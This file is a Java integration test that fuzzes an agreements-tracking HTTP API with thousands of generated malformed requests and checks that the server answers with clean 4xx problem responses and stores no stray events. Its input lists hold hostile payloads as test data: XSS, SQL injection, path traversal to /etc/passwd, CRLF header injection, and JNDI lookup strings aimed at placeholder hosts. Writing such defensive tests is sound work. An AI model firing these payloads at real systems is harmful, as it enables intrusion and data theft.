package accord.http.problems;

import static org.assertj.core.api.Assertions.assertThat;

import accord.http.testsupport.AccordIntegrationTest;
import accord.http.testsupport.TestUser;
import accord.http.testsupport.TestUsers;
import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashSet;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import javax.sql.DataSource;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * Sends thousands of generated hostile requests to every endpoint over real HTTP (a bare socket, so
 * that nothing is cleaned up on the way): valid bodies of every command mutated (fields dropped,
 * renamed, duplicated, retyped, nulled; huge, control-character and unpaired-surrogate strings; huge
 * and inexact numbers; deep nesting; invalid UTF-8; truncated JSON; oversized and chunked bodies),
 * wrong content types and methods, garbage and huge headers, hostile path values and query
 * parameters. No answer may be a 5xx, every 4xx must be a problem with a {@code code}, and no event
 * may be stored except by the few mutations that are still valid proposals, which are counted.
 * The seed is printed; {@code -Daccord.fuzz.seed=} and {@code -Daccord.fuzz.count=} reproduce a run.
 */
@AccordIntegrationTest
class HostileInputFuzzIT {

    private static final long SEED = Long.getLong("accord.fuzz.seed", 20251201L);
    private static final int COUNT = Integer.getInteger("accord.fuzz.count", 6000);

    @LocalServerPort
    int port;
    @Autowired
    ObjectMapper json;
    @Autowired
    DataSource dataSource;

    private Random random;
    private String prefix;
    private String signed;
    private String absent;
    private RawHttp http;

    @Test
    void noHostileInputGetsA5xxOrStoresAnEvent() throws Exception {
        System.out.println("HostileInputFuzzIT: seed " + SEED + ", " + COUNT + " inputs (-Daccord.fuzz.seed=" + SEED + ")");
        random = new Random(SEED);
        http = new RawHttp(port);
        prefix = "fuzz-" + Long.toUnsignedString(SEED, 36);
        signed = prefix + "-signed";
        absent = prefix + "-absent";
        RawHttp.Answer signing = http.send("POST", "/agreements/" + signed + "/sign-mou", headers(TestUsers.CLERK, "application/json"),
                bytes(seedBody("signMoU").toString()), false);
        assertThat(signing.status()).as(signing.text()).isEqualTo(201);
        JdbcTemplate jdbc = new JdbcTemplate(dataSource);
        long eventsBefore = count(jdbc, "select count(*) from domain_event_entry");
        long signedBefore = count(jdbc, "select count(*) from domain_event_entry where aggregate_identifier = ?", signed);

        Map<String, Integer> statuses = new TreeMap<>();
        Map<String, Integer> kinds = new TreeMap<>();
        Map<String, Integer> codes = new TreeMap<>();
        Map<String, Integer> fieldCodes = new TreeMap<>();
        List<String> failures = new ArrayList<>();
        Set<String> accepted = new HashSet<>();
        int acceptedProposals = 0;
        int acceptedOthers = 0;
        for (int i = 0; i < COUNT; i++) {
            Input input = next(i);
            RawHttp.Answer answer = http.send(input.method, input.target, input.headers, input.body, input.chunked);
            statuses.merge(String.valueOf(answer.status()), 1, Integer::sum);
            kinds.merge(input.kind, 1, Integer::sum);
            String problem = problemWith(input, answer);
            if (problem == null && answer.status() >= 400 && answer.body().length > 0) {
                JsonNode answered = json.readTree(answer.body());
                codes.merge(answered.path("code").asText(), 1, Integer::sum);
                answered.path("errors").forEach(error -> fieldCodes.merge(error.path("code").asText(), 1, Integer::sum));
            }
            if (problem != null && failures.size() < 30) {
                failures.add("#" + i + " " + input.kind + " " + input.method + " " + shorten(input.target, 200) + " body "
                        + (input.body == null ? "none" : shorten(new String(input.body, StandardCharsets.UTF_8), 300))
                        + "\n   -> " + answer.status() + " " + answer.contentType() + " " + shorten(answer.text(), 400)
                        + "\n   " + problem);
            }
            if (answer.status() >= 200 && answer.status() < 300 && input.method.equals("POST")
                    && input.target.startsWith("/agreements")) {
                accepted.add(json.readTree(answer.body()).path("agreementId").asText());
                if (input.target.equals("/agreements")) {
                    acceptedProposals++;
                } else {
                    acceptedOthers++;
                }
            }
        }

        long eventsAfter = count(jdbc, "select count(*) from domain_event_entry");
        long ofAccepted = 0;
        for (String id : accepted) {
            ofAccepted += count(jdbc, "select count(*) from domain_event_entry where aggregate_identifier = ?", id);
        }
        System.out.println("HostileInputFuzzIT: statuses " + statuses);
        System.out.println("HostileInputFuzzIT: inputs by kind " + kinds);
        System.out.println("HostileInputFuzzIT: problem codes " + codes + "; field codes in errors " + fieldCodes);
        System.out.println("HostileInputFuzzIT: " + accepted.size() + " mutations were still valid commands and recorded "
                + ofAccepted + " events (" + acceptedProposals + " proposals under an id generated from the title or a "
                + "mutated valid id): " + accepted);
        assertThat(failures).as("answers that break the rules (seed " + SEED + ")").isEmpty();
        assertThat(count(jdbc, "select count(*) from domain_event_entry where aggregate_identifier = ?", signed))
                .as("events appended to the agreement every command was aimed at").isEqualTo(signedBefore);
        assertThat(eventsAfter - eventsBefore).as("events stored by anything but the accepted mutations").isEqualTo(ofAccepted);
        assertThat(acceptedOthers).as("accepted mutations that were not proposals").isZero();
    }

    private String problemWith(Input input, RawHttp.Answer answer) {
        if (answer.status() < 0) {
            return "the connection was reset without an answer";
        }
        if (answer.status() >= 500) {
            return "a server error";
        }
        if (answer.status() >= 400) {
            if (!answer.contentType().startsWith("application/problem+json")) {
                return "a 4xx that is not application/problem+json";
            }
            if (input.method.equals("HEAD")) {
                return null;
            }
            try {
                JsonNode problem = json.readTree(answer.body());
                if (!problem.path("code").isTextual() || problem.path("status").asInt() != answer.status()) {
                    return "a problem without a code or with another status";
                }
            } catch (Exception e) {
                return "a problem that is not JSON";
            }
        }
        return null;
    }

    // ---------------------------------------------------------------- generation

    private record Input(String kind, String method, String target, List<String[]> headers, byte[] body, boolean chunked) {
    }

    private static final String[] ACTIONS = {"proposeAgreement", "signMoU", "scheduleSigning", "signAgreement",
        "formTaskForce", "announceSite", "announceCapacity", "addScopeAreas", "recordCommitment", "recordStatement",
        "recordMilestone", "linkAgreements", "amendAgreement", "suspendAgreement", "resumeAgreement",
        "terminateAgreement", "correctRecord"};
    private static final Map<String, String> SEGMENTS = Map.ofEntries(Map.entry("signMoU", "sign-mou"),
            Map.entry("scheduleSigning", "schedule-signing"), Map.entry("signAgreement", "sign-agreement"),
            Map.entry("formTaskForce", "form-task-force"), Map.entry("announceSite", "announce-site"),
            Map.entry("announceCapacity", "announce-capacity"), Map.entry("addScopeAreas", "add-scope-areas"),
            Map.entry("recordCommitment", "record-commitment"), Map.entry("recordStatement", "record-statement"),
            Map.entry("recordMilestone", "record-milestone"), Map.entry("linkAgreements", "link-agreements"),
            Map.entry("amendAgreement", "amend"), Map.entry("suspendAgreement", "suspend"),
            Map.entry("resumeAgreement", "resume"), Map.entry("terminateAgreement", "terminate"),
            Map.entry("correctRecord", "correct-record"));

    private static final String[] HOSTILE_TEXTS = {"", " ", "\u0000", "a\u0001b", "\uD800", "x\uDC00", "\uDBFF\uDBFF",
        "\u001B[2J", "line\rbreak", "tab\there", "\u007F", "\u0085", "<script>alert(1)</script>", "' OR 1=1 --",
        "../../etc/passwd", "${jndi:ldap://x.example/a}", "{0}{1}", "%s%n%x", "${validatedValue}", "\u202Eevil",
        "NaN", "Infinity", "-0", "null", "true", "2025-02-30", "2025-13", "20250", "2025-9", "0000-00-00", "2025-W40",
        "javascript:alert(1)", "ftp://x.example/a", "http://", "https:///x", "file:///etc/passwd",
        "http://exa mple.com", "https://x.example/\u0000", "mailto:a@b.example", "//x.example", "ZZ", "kr", "KOR",
        "XX", "AA", "Q1", "STATE", "state", "MOU ", "Mou", "WEEK", "day", "a--b", "-a", "A", "é", "🙂",
        "x".repeat(101), "x".repeat(201), "x".repeat(301), "x".repeat(501), "x".repeat(1001), "x".repeat(2001),
        "x".repeat(4001), "y".repeat(30_000), "🙂".repeat(2100), "\n".repeat(50)};
    private static final String[] NUMBERS = {"0", "-1", "1.5", "-0", "1e400", "-1e400", "1e-400", "9007199254740992",
        "9007199254740993", "123456789012345678901234567890", "0.1234567890123456789", "2147483648",
        "9223372036854775808", "-9223372036854775809", "1.0e2", "1E+308", "4.9e-324", "1" + "0".repeat(999),
        "0.000000000000000001", "12345678901234.56"};
    private static final String[] RAW_NUMBERS = {"NaN", "Infinity", "-Infinity", "0x10", "+1", "01", ".5", "1.", "1e", "--1"};
    private static final String[] CONTENT_TYPES = {null, "text/plain", "application/xml", "application/json;charset=ebcdic",
        "application/json;charset=UTF-16", "application/json;charset=", "application/json; charset=\"utf-8\"", "garbage",
        "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/merge-patch+json",
        "application/problem+json", "*/*", "application/json;charset=x-unknown-9", "application/json;;;", "/",
        "application/JSON", "text/json"};
    private static final String[] ACCEPTS = {"garbage", "text/html", "application/xml", "image/png", "*/*;q=abc",
        "application/json;q=0", "text/event-stream", "", ",,,", "application/cloudevents-batch+json", "text/plain",
        "*/*", "application/*;q=0.5, text/*"};
    private static final String[] PATH_VALUES = {"..", "%2e%2e", "..%2F..%2Fetc%2Fpasswd", "%00", "%2F", "a%20b", "UPPER",
        "-lead", "a--b", "x".repeat(101), "x".repeat(3000), "x".repeat(9000), "%C3%A9t%C3%A9", "%FF%FE", ";x=1", "a;b",
        "%3B", "%5C", "\\", "%25", "%zz", "%", "\u00e9", "%F0%9F%99%82", "-1", "0", "9223372036854775808", "1e3",
        "0x10", "%0d%0aX-Injected:%201", "a%09b", "%7B%7D", "*", "~root", "index.html", "null", "%E2%80%AE",
        "agreement-statex", "%2e", "."};
    private static final java.util.regex.Pattern SLUG = java.util.regex.Pattern.compile("^[a-z0-9]+(-[a-z0-9]+)*$");
    private static final String[] QUERY_VALUES = {"-1", "0", "abc", "9223372036854775808", "99999999999999999999", "1.5", "",
        "%00", "2025-02-30", "2025-13", "not-an-instant", "2025-10-01T00:00:00Z", "2025-10-01T25:00:00Z", "+1", "0x10",
        "1e3", "NaN", "x".repeat(5000), "..%2F", "%F0%9F%99%82", "%FF", "MOU", "mou", "STAT", "%zz", "a%0Db", "501",
        "100000", "-9223372036854775808", "%5B%5D", "MoUSigned", "example.accord.agreement.Nope.v9", "now"};

    private Input next(int i) throws Exception {
        int roll = random.nextInt(100);
        if (roll < 55) {
            return mutatedCommand();
        }
        if (roll < 63) {
            return textMutatedCommand();
        }
        if (roll < 88) {
            return hostileRead();
        }
        if (roll < 93) {
            return hostileSubscriptionOrAdmin();
        }
        return hostileHeadersOrMethod();
    }

    private Input mutatedCommand() throws Exception {
        String action = pick(ACTIONS);
        ObjectNode body = seedBody(action);
        String operator = mutate(body);
        return new Input("body:" + operator, "POST", commandPath(action), headers(TestUsers.CLERK, "application/json"),
                serialized(body), random.nextInt(10) == 0);
    }

    private Input textMutatedCommand() throws Exception {
        String action = pick(ACTIONS);
        String text = seedBody(action).toString();
        byte[] body;
        String kind;
        switch (random.nextInt(12)) {
            case 0 -> {
                kind = "truncated";
                body = bytes(text.substring(0, random.nextInt(text.length())));
            }
            case 1 -> {
                kind = "duplicate-key";
                String first = text.substring(1, text.indexOf(',') + 1);
                body = bytes("{" + first + text.substring(1));
            }
            case 2 -> {
                kind = "invalid-utf8";
                byte[][] bad = {{(byte) 0xC3, 0x28}, {(byte) 0xFF}, {(byte) 0xC0, (byte) 0xAF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                    {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80}, {(byte) 0xE2, (byte) 0x82}};
                int at = text.indexOf("\":\"") + 3;
                body = concat(bytes(text.substring(0, at)), bad[random.nextInt(bad.length)], bytes(text.substring(at)));
            }
            case 3 -> {
                kind = "raw-control";
                int at = text.indexOf("\":\"") + 3;
                body = bytes(text.substring(0, at) + (char) random.nextInt(32) + text.substring(at));
            }
            case 4 -> {
                kind = "not-an-object";
                body = bytes(pick(new String[] {"null", "[]", "1", "\"x\"", "", "   ", "{}", "[{}]", "true", "{\"\":1}",
                    "\uFEFF" + text, text + " x", text + text, "/* c */" + text, text.replace('"', '\'')}));
            }
            case 5 -> {
                kind = "raw-number";
                body = bytes(text.replaceFirst("\\{", "{\"termYears\":" + pick(RAW_NUMBERS) + ","));
            }
            case 6 -> {
                kind = "garbage";
                body = new byte[random.nextInt(2000)];
                random.nextBytes(body);
            }
            case 7 -> {
                kind = "oversized";
                body = bytes(text.substring(0, text.length() - 1) + ",\"pad\":\"" + "p".repeat(66_000 + random.nextInt(200_000)) + "\"}");
            }
            case 8 -> {
                kind = "deep-nesting";
                int depth = pick(new Integer[] {20, 100, 1001, 5000, 30_000});
                body = bytes("{\"replacement\":" + "[".repeat(depth) + "]".repeat(depth) + "," + text.substring(1));
            }
            case 9 -> {
                kind = "utf16-body";
                body = text.getBytes(StandardCharsets.UTF_16);
            }
            case 10 -> {
                kind = "whitespace-padded";
                body = bytes(" ".repeat(random.nextInt(60_000)) + text);
            }
            default -> {
                kind = "deep-object";
                int depth = pick(new Integer[] {17, 200, 2000});
                body = bytes(text.replaceFirst("\\{", "{\"replacement\":" + "{\"a\":".repeat(depth) + "1" + "}".repeat(depth) + ","));
            }
        }
        return new Input("text:" + kind, "POST", commandPath(action), headers(TestUsers.CLERK, "application/json"), body,
                random.nextInt(4) == 0);
    }

    private String commandPath(String action) {
        if (action.equals("proposeAgreement")) {
            return "/agreements";
        }
        String id = random.nextInt(8) == 0 ? invalidId() : action.equals("signMoU") ? signed : absent;
        return "/agreements/" + id + "/" + SEGMENTS.get(action);
    }

    /** A hostile path value that is not a valid agreement id, so that no command can be recorded under it. */
    private String invalidId() {
        String id;
        do {
            id = pick(PATH_VALUES);
        } while (SLUG.matcher(id).matches() && id.length() <= 100);
        return id;
    }

    /** Applies one mutation somewhere in the body and names it. */
    private String mutate(ObjectNode body) {
        List<JsonNode[]> places = new ArrayList<>();
        collect(body, places);
        JsonNode[] place = places.get(random.nextInt(places.size()));
        JsonNode parent = place[0];
        String operator;
        JsonNode replacement;
        switch (random.nextInt(10)) {
            case 0 -> {
                remove(parent, place[1]);
                return "drop";
            }
            case 1 -> {
                if (parent instanceof ObjectNode object) {
                    String name = place[1].asText();
                    JsonNode value = object.remove(name);
                    object.set(pick(new String[] {name + "s", name.toUpperCase(), "_" + name, "unknown", "$where", "__proto__",
                        name.substring(0, name.length() - 1)}), value);
                    return "rename";
                }
                operator = "type";
                replacement = json.getNodeFactory().textNode("x");
            }
            case 2 -> {
                operator = "null";
                replacement = json.getNodeFactory().nullNode();
            }
            case 3, 4, 5 -> {
                operator = "hostile-text";
                replacement = json.getNodeFactory().textNode(pick(HOSTILE_TEXTS));
            }
            case 6 -> {
                operator = "number";
                replacement = numberNode(pick(NUMBERS));
            }
            case 7 -> {
                operator = "type";
                replacement = pick(new JsonNode[] {json.getNodeFactory().booleanNode(true), json.getNodeFactory().numberNode(7),
                    json.getNodeFactory().textNode("7"), json.getNodeFactory().arrayNode(), json.getNodeFactory().objectNode(),
                    json.getNodeFactory().arrayNode().add("a").add(1), json.getNodeFactory().objectNode().put("a", 1)});
            }
            case 8 -> {
                operator = "grow-list";
                ArrayNode list = json.getNodeFactory().arrayNode();
                JsonNode element = parent instanceof ArrayNode array && !array.isEmpty() ? array.get(0)
                        : json.getNodeFactory().textNode("KR");
                int size = pick(new Integer[] {21, 51, 101, 1000});
                for (int n = 0; n < size; n++) {
                    list.add(element.deepCopy());
                }
                replacement = list;
            }
            default -> {
                operator = "nest";
                JsonNode nested = json.getNodeFactory().textNode("deep");
                for (int n = pick(new Integer[] {17, 100, 900}); n > 0; n--) {
                    if (random.nextBoolean()) {
                        nested = json.getNodeFactory().arrayNode().add(nested);
                    } else {
                        ObjectNode wrapper = json.getNodeFactory().objectNode();
                        wrapper.set("a", nested);
                        nested = wrapper;
                    }
                }
                replacement = nested;
            }
        }
        set(parent, place[1], replacement);
        if (random.nextInt(3) == 0) {
            // A second, independent fault: every one must be listed, and none may slip through.
            List<JsonNode[]> again = new ArrayList<>();
            collect(body, again);
            JsonNode[] second = again.get(random.nextInt(again.size()));
            set(second[0], second[1], json.getNodeFactory().textNode(pick(HOSTILE_TEXTS)));
            operator += "+text";
        }
        return operator;
    }

    private JsonNode numberNode(String text) {
        try {
            return json.readTree(text);
        } catch (Exception e) {
            return json.getNodeFactory().textNode(text);
        }
    }

    /** Every place in the tree as {parent, field name or index}. */
    private void collect(JsonNode node, List<JsonNode[]> places) {
        if (node instanceof ObjectNode object) {
            Iterator<String> names = object.fieldNames();
            while (names.hasNext()) {
                String name = names.next();
                places.add(new JsonNode[] {object, json.getNodeFactory().textNode(name)});
                collect(object.get(name), places);
            }
        } else if (node instanceof ArrayNode array) {
            for (int n = 0; n < array.size(); n++) {
                places.add(new JsonNode[] {array, json.getNodeFactory().numberNode(n)});
                collect(array.get(n), places);
            }
        }
    }

    private static void remove(JsonNode parent, JsonNode key) {
        if (parent instanceof ObjectNode object) {
            object.remove(key.asText());
        } else {
            ((ArrayNode) parent).remove(key.asInt());
        }
    }

    private static void set(JsonNode parent, JsonNode key, JsonNode value) {
        if (parent instanceof ObjectNode object) {
            object.set(key.asText(), value);
        } else if (key.asInt() < parent.size()) {
            ((ArrayNode) parent).set(key.asInt(), value);
        }
    }

    private Input hostileRead() {
        String[][] endpoints = {
            {"/agreements", "party", "kind", "status", "scopeArea", "q", "occurredFrom", "occurredTo", "cursor", "limit"},
            {"/agreements/{id}", "minVersion", "asOfVersion", "asRecordedAt", "asOccurredOn"},
            {"/agreements/{id}/history", "type", "recordedFrom", "recordedTo", "occurredFrom", "occurredTo", "after", "limit"},
            {"/agreements/{id}/diff", "fromVersion", "toVersion"},
            {"/agreements/{id}/audit-bundle"},
            {"/events", "after", "limit", "agreementId", "type"},
            {"/events/stream", "after", "agreementId", "type"},
            {"/ledger/checkpoint"},
            {"/ledger/checkpoints", "after", "limit"},
            {"/ledger/key"},
            {"/ledger/leaves/{position}"},
            {"/ledger/proofs/inclusion", "position", "treeSize"},
            {"/ledger/proofs/consistency", "from", "to"},
            {"/schemas/events"},
            {"/schemas/events/{file}"},
            {"/asyncapi.yaml"}};
        String[] endpoint = endpoints[random.nextInt(endpoints.length)];
        boolean stream = endpoint[0].equals("/events/stream");
        String path = endpoint[0]
                .replace("{id}", random.nextInt(3) == 0 ? signed : pick(PATH_VALUES))
                .replace("{position}", pick(PATH_VALUES))
                .replace("{file}", pick(PATH_VALUES));
        StringBuilder query = new StringBuilder();
        int parameters = endpoint.length == 1 ? random.nextInt(2) : 1 + random.nextInt(3);
        for (int n = 0; n < parameters; n++) {
            String name = endpoint.length > 1 && random.nextInt(6) != 0 ? endpoint[1 + random.nextInt(endpoint.length - 1)]
                    : pick(new String[] {"unknown", "limit", "%00", "a%5B%5D", "x".repeat(300)});
            String value = pick(QUERY_VALUES);
            if (name.equals("minVersion")) {
                value = pick(new String[] {"-1", "abc", "1.5", "%00", "NaN", "", "-9223372036854775808"}); // a valid one waits 5 s
            }
            if (stream && (value.matches("\\d+") || value.equals("now") || value.equals("MoUSigned"))) {
                value = "-" + value + "x"; // a valid stream would stay open
            }
            if (random.nextBoolean() && !value.contains("%")) {
                value = URLEncoder.encode(value, StandardCharsets.UTF_8);
            }
            query.append(n == 0 ? "?" : "&").append(name).append('=').append(value);
        }
        List<String[]> headers = headers(pick(TestUsers.ALL.toArray(new TestUser[0])), null);
        if (stream) {
            headers.add(new String[] {"Last-Event-ID", pick(new String[] {"-1", "abc", "99999999999999", "", "1;2"})});
            if (query.isEmpty()) {
                query.append("?after=-2");
            }
        }
        if (random.nextInt(4) == 0) {
            headers.add(new String[] {"Accept", pick(ACCEPTS)});
        }
        return new Input("read:" + endpoint[0], "GET", path + query, headers, null, false);
    }

    private Input hostileSubscriptionOrAdmin() throws Exception {
        switch (random.nextInt(8)) {
            case 0, 1 -> {
                ObjectNode body = json.createObjectNode().put("url", "https://hooks.example.org/accord").put("after", -1);
                body.putArray("agreementIds").add(absent);
                body.putArray("types").add("MoUSigned");
                String operator = mutate(body);
                return new Input("subscription:" + operator, "POST", "/subscriptions", headers(TestUsers.INTEGRATOR,
                        "application/json"), serialized(body), false);
            }
            case 2 -> {
                ObjectNode body = json.createObjectNode().put("after", -1);
                mutate(body);
                return new Input("subscription:replay", "POST", "/subscriptions/" + pick(PATH_VALUES) + "/replay",
                        headers(TestUsers.ADMIN, "application/json"), serialized(body), false);
            }
            case 3 -> {
                String[] tails = {"", "/deliveries?limit=" + pick(QUERY_VALUES), "/deliveries?before=" + pick(QUERY_VALUES)};
                return new Input("subscription:read", "GET", "/subscriptions/" + pick(PATH_VALUES) + pick(tails),
                        headers(TestUsers.INTEGRATOR, null), null, false);
            }
            case 4 -> {
                String method = pick(new String[] {"POST", "DELETE"});
                String tail = method.equals("DELETE") ? "" : pick(new String[] {"/resume", "/pause", "/secret"});
                return new Input("subscription:" + method, method, "/subscriptions/" + pick(PATH_VALUES) + tail,
                        headers(TestUsers.ADMIN, null), null, false);
            }
            case 5 -> {
                String[] tails = {"", "/dead-letters", "/rebuild", "/dead-letters/retry", "/dead-letters/" + pick(PATH_VALUES)};
                String tail = pick(tails);
                String method = tail.isEmpty() || tail.equals("/dead-letters") ? "GET"
                        : tail.startsWith("/dead-letters/") && !tail.endsWith("retry") ? "DELETE" : "POST";
                return new Input("admin:processors", method, "/admin/processors/" + pick(PATH_VALUES) + tail,
                        headers(TestUsers.ADMIN, null), null, false);
            }
            case 6 -> {
                return new Input("admin:audit", "GET", "/admin/ledger/audit?" + pick(QUERY_VALUES),
                        headers(TestUsers.ADMIN, pick(CONTENT_TYPES)), null, false);
            }
            default -> {
                return new Input("admin:list", "GET", "/admin/processors?limit=" + pick(QUERY_VALUES),
                        headers(TestUsers.ADMIN, null), null, false);
            }
        }
    }

    private Input hostileHeadersOrMethod() throws Exception {
        String action = pick(ACTIONS);
        String path = commandPath(action);
        byte[] body = bytes(seedBody(action).toString());
        List<String[]> headers = headers(TestUsers.CLERK, "application/json");
        switch (random.nextInt(9)) {
            case 0 -> {
                headers = headers(TestUsers.CLERK, pick(CONTENT_TYPES));
                return new Input("header:content-type", "POST", path, headers, body, false);
            }
            case 1 -> {
                headers.add(new String[] {"Accept", pick(ACCEPTS)});
                return new Input("header:accept", "POST", path, headers, mutatedBytes(action), false);
            }
            case 2 -> {
                headers.add(new String[] {"X-Fuzz", "a".repeat(pick(new Integer[] {9000, 20_000, 60_000}))});
                return new Input("header:huge", "POST", path, headers, body, false);
            }
            case 3 -> {
                headers.add(new String[] {pick(new String[] {"X-Correlation-Id", "If-Match", "Idempotency-Key", "Accept-Charset",
                    "Content-Encoding", "Expect"}), pick(new String[] {"\u0001\u0002", "x".repeat(5000), "\"abc\"", "*", "W/\"1\"",
                    "gzip", "100-continue", "../..", "${jndi:ldap://x}", "\u00e9\u00ff"})});
                return new Input("header:other", "POST", path, headers, mutatedBytes(action), false);
            }
            case 4 -> {
                headers = new ArrayList<>();
                headers.add(new String[] {"Content-Type", "application/json"});
                headers.add(new String[] {"Authorization", pick(new String[] {"Basic !!!", "Bearer x", "Basic "
                    + Base64.getEncoder().encodeToString(bytes("clerk")), "Basic", "Digest a=b", "Basic "
                    + Base64.getEncoder().encodeToString(bytes("clerk:" + "x".repeat(3000)))})});
                return new Input("header:authorization", "POST", path, headers, body, false);
            }
            case 5 -> {
                String method = pick(new String[] {"PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "HEAD", "FOO", "GET"});
                return new Input("method:" + method, method, path, headers, method.equals("GET") || method.equals("HEAD")
                        || method.equals("TRACE") ? null : body, false);
            }
            case 6 -> {
                String[] targets = {"/agreements/" + absent + "/nope", "/agreements/" + absent + "/sign-mou/extra", "/nope",
                    "/agreements//sign-mou", "/AGREEMENTS", "/agreements/" + absent + "/sign-mou;x=1",
                    "/agreements/" + absent + "/%2e%2e/sign-mou", "/agreements/./" + absent + "/amend", "*",
                    "http://localhost/agreements", "/agreements?x=" + "y".repeat(10_000), "/agreements/" + absent + "/amend#frag",
                    "/agreements/" + absent + "/amend?%", "/a\u0000b", "/agreements\u00ff"};
                return new Input("target", "POST", pick(targets), headers, body, false);
            }
            case 7 -> {
                headers.add(new String[] {"X-Fuzz", "a\u0000b"});
                return new Input("header:raw-control", "POST", path, headers, body, false);
            }
            default -> {
                return new Input("header:content-type-with-mutation", "POST", path,
                        headers(TestUsers.CLERK, pick(CONTENT_TYPES)), mutatedBytes(action), random.nextBoolean());
            }
        }
    }

    /** The body as UTF-8 JSON, half the time with every non-ASCII character escaped, so unpaired surrogates get through. */
    private byte[] serialized(JsonNode body) throws Exception {
        return random.nextBoolean() ? json.writer().with(JsonWriteFeature.ESCAPE_NON_ASCII.mappedFeature()).writeValueAsBytes(body)
                : bytes(body.toString());
    }

    private byte[] mutatedBytes(String action) throws Exception {
        ObjectNode body = seedBody(action);
        mutate(body);
        return serialized(body);
    }

    // ---------------------------------------------------------------- valid seeds

    private ObjectNode seedBody(String action) throws Exception {
        String source = """
                {"publisher":"Accord fuzz","title":"A report","url":"https://seeds.accord.example/fuzz.txt",
                 "publishedOn":"2025-10-01","language":"en"}""";
        String occurred = "\"occurredOn\":{\"date\":\"2025-10\",\"precision\":\"MONTH\"},\"sources\":[" + source + "]";
        String parties = """
                [{"code":"KR","kind":"STATE","name":"Republic of Korea","role":"PARTY"},
                 {"code":"BLACKROCK","kind":"ORGANISATION","name":"BlackRock","role":"PARTY"}]""";
        String signatory = "{\"name\":\"Bae Kyung-hoon\",\"title\":\"Minister of Science and ICT\",\"party\":\"KR\"}";
        String fields = switch (action) {
            case "proposeAgreement" -> "\"id\":\"" + signed + "\",\"kind\":\"MOU\",\"title\":\"A fuzzed proposal\",\"parties\":"
                    + parties + ",\"objectives\":[\"Build data centres\"],\"termYears\":5";
            case "signMoU" -> "\"title\":\"A fuzzed memorandum\",\"parties\":" + parties + ",\"signatories\":[" + signatory
                    + "],\"place\":\"Seoul\",\"objectives\":[\"Build data centres\"],\"termYears\":5";
            case "scheduleSigning" -> "\"scheduledFor\":{\"date\":\"2025-11-03\",\"precision\":\"DAY\"},\"place\":\"Gyeongju\","
                    + "\"signatories\":[" + signatory + "]";
            case "signAgreement" -> "\"signatories\":[" + signatory + "],\"place\":\"Gyeongju\"";
            case "formTaskForce" -> "\"name\":\"Task force\",\"members\":[\"KR\",\"BLACKROCK\"],\"mandate\":\"Build it\"";
            case "announceSite" -> "\"name\":\"Site\",\"location\":\"Jeolla\",\"countryCode\":\"KR\"";
            case "announceCapacity" -> "\"amount\":1.5,\"unit\":\"GW\",\"description\":\"First phase\"";
            case "addScopeAreas" -> "\"areas\":[\"AI\",\"Energy\"]";
            case "recordCommitment" -> "\"party\":\"KR\",\"description\":\"Korea provides the land.\"";
            case "recordStatement" -> "\"speaker\":{\"name\":\"Scott Bessent\",\"title\":\"Treasury Secretary\"},\"party\":\"US\","
                    + "\"text\":\"We welcome it.\"";
            case "recordMilestone" -> "\"label\":\"Ground broken\",\"description\":\"Construction began.\"";
            case "linkAgreements" -> "\"relatedAgreementId\":\"kr-us-technology-prosperity-deal\",\"relation\":\"RELATED_TO\","
                    + "\"note\":\"Same summit\"";
            case "amendAgreement" -> "\"summary\":\"The term is extended.\"";
            case "suspendAgreement", "resumeAgreement" -> "\"reason\":\"The parties said so.\"";
            case "terminateAgreement" -> "\"ending\":\"TERMINATED\",\"reason\":\"The parties ended it.\",\"supersededBy\":null";
            case "correctRecord" -> "\"correctsVersion\":1,\"reason\":\"The report named the province.\",\"replacement\":"
                    + "{\"name\":\"Site\",\"location\":\"Jeolla\",\"countryCode\":\"KR\",\"phases\":[1,2.5,true,null]}";
            default -> throw new IllegalArgumentException(action);
        };
        return (ObjectNode) json.readTree("{" + fields + "," + occurred + "}");
    }

    // ---------------------------------------------------------------- helpers

    private static List<String[]> headers(TestUser user, String contentType) {
        List<String[]> headers = new ArrayList<>();
        headers.add(new String[] {"Authorization", "Basic " + Base64.getEncoder()
                .encodeToString(bytes(user.name() + ":" + user.password()))});
        if (contentType != null) {
            headers.add(new String[] {"Content-Type", contentType});
        }
        return headers;
    }

    private <T> T pick(T[] choices) {
        return choices[random.nextInt(choices.length)];
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            all.writeBytes(part);
        }
        return all.toByteArray();
    }

    private static long count(JdbcTemplate jdbc, String sql, Object... arguments) {
        Long count = jdbc.queryForObject(sql, Long.class, arguments);
        return count == null ? 0 : count;
    }

    private static String shorten(String text, int most) {
        String visible = text.replaceAll("\\p{Cntrl}", "·");
        return visible.length() <= most ? visible : visible.substring(0, most) + "…(" + visible.length() + ")";
    }
}
